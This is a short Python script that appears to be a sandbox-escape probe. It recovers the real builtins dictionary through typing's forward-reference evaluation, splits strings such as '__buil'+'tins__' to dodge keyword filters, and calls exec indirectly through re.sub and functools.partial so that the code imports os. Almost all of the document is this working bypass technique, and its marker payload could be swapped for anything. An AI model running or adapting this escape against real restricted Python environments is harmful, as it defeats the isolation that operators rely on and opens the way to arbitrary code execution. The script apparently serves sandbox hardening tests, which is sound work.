# tramp: re.sub with a functools.partial(exec, src, {}) as the replacement: exec raised from re.sub's frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import re, functools
src = "[print('PWN' + 'ED', __import__('os').getpid()) for _ in (1,)]"
try:
    re.sub("x", functools.partial(rb["exec"], src, {}), "x")
except Exception as e:
    print("refused:", type(e).__name__, e)
